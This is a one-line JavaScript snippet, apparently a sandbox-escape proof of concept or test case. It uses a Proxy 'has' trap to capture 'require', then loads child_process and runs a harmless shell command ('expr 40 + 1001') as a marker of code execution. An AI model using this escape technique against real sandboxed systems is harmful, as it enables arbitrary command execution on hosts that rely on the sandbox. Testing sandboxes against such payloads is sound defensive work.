const p=new Proxy({}, {has(){ p.v=require; return true }}); 'x' in p; p.v('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
